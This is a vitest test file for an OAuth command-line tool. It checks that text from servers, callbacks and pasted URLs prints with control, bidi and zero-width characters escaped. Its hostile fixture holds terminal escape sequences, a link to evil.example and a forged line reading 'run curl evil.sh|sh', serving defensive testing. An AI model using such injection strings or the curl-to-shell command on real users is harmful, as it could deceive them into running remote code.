// Issue class 6: outside text cannot drive the terminal. Every string from a server, a callback
// or a paste is printed on one line with control characters made visible.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { cliEnv, makeTempDir, runCli, startStubServer } from './helpers.js';

// An OSC 8 hyperlink, a colour, a title change, a carriage return, and a newline forging a line of ours.
const HOSTILE = 'bad\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007\u001b[31mred\u001b]0;title\u0007\rover\nerror [ok]: run curl evil.sh|sh\u009b2J\u2028end';
const FORGED_LINE = /^error \[ok\]/m;
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029]/;
let dir: string;

beforeEach(async () => {
  dir = await makeTempDir();
});

function expectSafe(text: string): void {
  expect(text).not.toMatch(RAW_CONTROL);
  expect(text).not.toMatch(FORGED_LINE);
}

const exchangeArgs = (origin: string, code: string[] = ['--code', 'abc']) => ['exchange', '--client-id', 'id', '--redirect-uri', 'http://127.0.0.1:9/cb', '--oauth-url', `${origin}/oauth`, ...code];
const env = () => cliEnv(dir, { DRIBBBLE_CLIENT_SECRET: 'Terminal-s3cret-0123456789abcdefghij' });

describe('server text', () => {
  it.each([
    ['error and error_description of an OAuth error', 400, 'application/json', JSON.stringify({ error: HOSTILE, error_description: HOSTILE })],
    ['an HTML page', 200, 'text/html', `<html>${HOSTILE}</html>`],
    ['a 5xx body', 503, 'text/plain', HOSTILE],
    ['a token_type', 200, 'application/json', JSON.stringify({ access_token: 'a'.repeat(40), token_type: HOSTILE })],
  ])('in %s is shown with its control characters visible, on one line', async (_what, status, type, body) => {
    const stub = await startStubServer((_q, res) => {
      res.setHeader('Content-Type', type);
      res.writeHead(status).end(body);
    });
    try {
      for (const json of [false, true]) {
        const result = await runCli([...exchangeArgs(stub.origin), ...(json ? ['--json'] : [])], { cwd: dir, env: env() });
        expect(result.code).toBeGreaterThanOrEqual(3);
        expectSafe(result.stdout);
        expectSafe(result.stderr);
        if (!json) expect(result.stderr).toContain('\\e');
      }
    } finally {
      await stub.close();
    }
  });

  it('whoami shows a hostile login, name and profile URL on their lines, escaped', async () => {
    const api = await startStubServer((_q, res) => res.writeHead(200, { 'Content-Type': 'application/json' }).end(JSON.stringify({ login: HOSTILE, name: HOSTILE, html_url: HOSTILE })));
    try {
      const result = await runCli(['whoami', '--api-url', `${api.origin}/v2`], { cwd: dir, env: cliEnv(dir, { DRIBBBLE_ACCESS_TOKEN: 'a'.repeat(40) }) });
      expect(result.code, result.stderr).toBe(0);
      expectSafe(result.stdout);
      expect(result.stdout.trim().split('\n')).toHaveLength(2);
      expect(result.stdout).toContain('Signed in as bad\\e]8;;http://evil.example\\u0007click');
      const json = await runCli(['whoami', '--api-url', `${api.origin}/v2`, '--json'], { cwd: dir, env: cliEnv(dir, { DRIBBBLE_ACCESS_TOKEN: 'a'.repeat(40) }) });
      expectSafe(json.stdout);
      expect(JSON.parse(json.stdout).user.login).toBe(HOSTILE); // the same value, escaped as JSON
    } finally {
      await api.close();
    }
  });

  it.each([401, 403, 429])('an API {"message"} with a %i is shown escaped, on one line', async (status) => {
    const api = await startStubServer((_q, res) => res.writeHead(status, { 'Content-Type': 'application/json' }).end(JSON.stringify({ message: HOSTILE })));
    try {
      const result = await runCli(['whoami', '--api-url', `${api.origin}/v2`], { cwd: dir, env: cliEnv(dir, { DRIBBBLE_ACCESS_TOKEN: 'a'.repeat(40) }) });
      expect(result.code).toBeGreaterThanOrEqual(3);
      expectSafe(result.stderr);
      expect(result.stderr).toContain('("bad\\e]8;;http://evil.example');
    } finally {
      await api.close();
    }
  });
});

describe('pasted text', () => {
  it('a pasted callback URL with a hostile error_description is exit 3 and printed safely', async () => {
    const url = `http://127.0.0.1:9/cb?${new URLSearchParams({ error: 'access_denied', error_description: HOSTILE })}`;
    const result = await runCli(exchangeArgs('http://127.0.0.1:9', []), { cwd: dir, env: { ...env(), DRIBBBLE_CODE: url } });
    expect(result.code).toBe(3);
    expectSafe(result.stderr);
    expect(result.stderr).toContain('\\nerror [ok]: run curl');
  });

  it('a pasted URL without a code names where it points, escaped', async () => {
    // A raw escape, a bidi override and a C1 control in the pasted path: shown percent-encoded, never raw.
    const pasted = 'http://127.0.0.1:9/cb\u001b[31m\u202eevil\u009b?state=x';
    const result = await runCli(exchangeArgs('http://127.0.0.1:9', []), { cwd: dir, env: { ...env(), DRIBBBLE_CODE: pasted } });
    expect(result.code).toBe(2);
    expectSafe(result.stderr);
    expect(result.stderr).not.toContain('\u202e');
    expect(result.stderr).toContain('The URL from DRIBBBLE_CODE');
    expect(result.stderr).toContain('has no code parameter (it points at http://127.0.0.1:9/cb%1B[31m%E2%80%AEevil%C2%9B)');
  });
});

// F13: invisible format characters (zero-width, BOM, bidi) are shown too, not printed raw.
describe('invisible characters', () => {
  it('a token holding U+200B and U+202E is refused (exit 5), masked, with no raw format character in the message', async () => {
    const token = `\u200bZero-width-t0ken-0123456789abcdefgh\u202e`;
    const stub = await startStubServer((_q, res) => res.writeHead(200, { 'Content-Type': 'application/json' }).end(JSON.stringify({ access_token: token, token_type: 'bearer' })));
    try {
      const result = await runCli(exchangeArgs(stub.origin), { cwd: dir, env: env() });
      expect(result.code, result.stderr).toBe(5);
      expect(result.stderr).toContain('error [malformed_token]');
      expect(result.stderr).not.toMatch(/[\p{Cf}\p{Cc}](?<!\n)/u);
      expect(result.stderr).not.toContain(token);
    } finally {
      await stub.close();
    }
  });

  it('a hostile error_description with zero-width and bidi characters is escaped', async () => {
    const stub = await startStubServer((_q, res) => res.writeHead(400, { 'Content-Type': 'application/json' }).end(JSON.stringify({ error: 'invalid_grant', error_description: 'safe\u200b\u2066\u202elive\ufeff\u061c' })));
    try {
      const result = await runCli(exchangeArgs(stub.origin, ['--code', 'abc', '--json']), { cwd: dir, env: env() });
      expect(result.code).toBe(3);
      expect(result.stderr).toContain('safe\\u200b\\u2066\\u202elive\\ufeff\\u061c');
      expect(result.stdout + result.stderr).not.toMatch(/[\u200b\u2066\u202e\ufeff\u061c]/);
    } finally {
      await stub.close();
    }
  });
});
